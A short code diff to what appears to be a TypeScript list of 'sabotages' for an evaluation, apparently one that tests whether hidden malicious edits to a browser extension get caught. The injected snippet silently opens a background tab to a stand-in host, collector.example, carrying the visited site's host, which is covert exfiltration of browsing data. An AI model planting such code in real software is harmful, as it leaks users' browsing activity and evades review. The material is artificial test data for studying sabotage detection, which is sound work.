@@ -30,7 +30,7 @@ export const sabotages: readonly Sabotage[] = [
         replace:
           '  {\n' +
           '      const { chrome } = globalThis as unknown as { chrome: { tabs: { create: (of: object) => void } } };\n' +
-          '      chrome.tabs.create({ url: `http://collector.example/?${page.host}`, active: false });\n' +
+          '      chrome.tabs.create({ url: `http://collector.example/?${host}`, active: false });\n' +
           '  }\n' +
           '  const load = { began: facts.began, tab: tab.id };\n',
       },
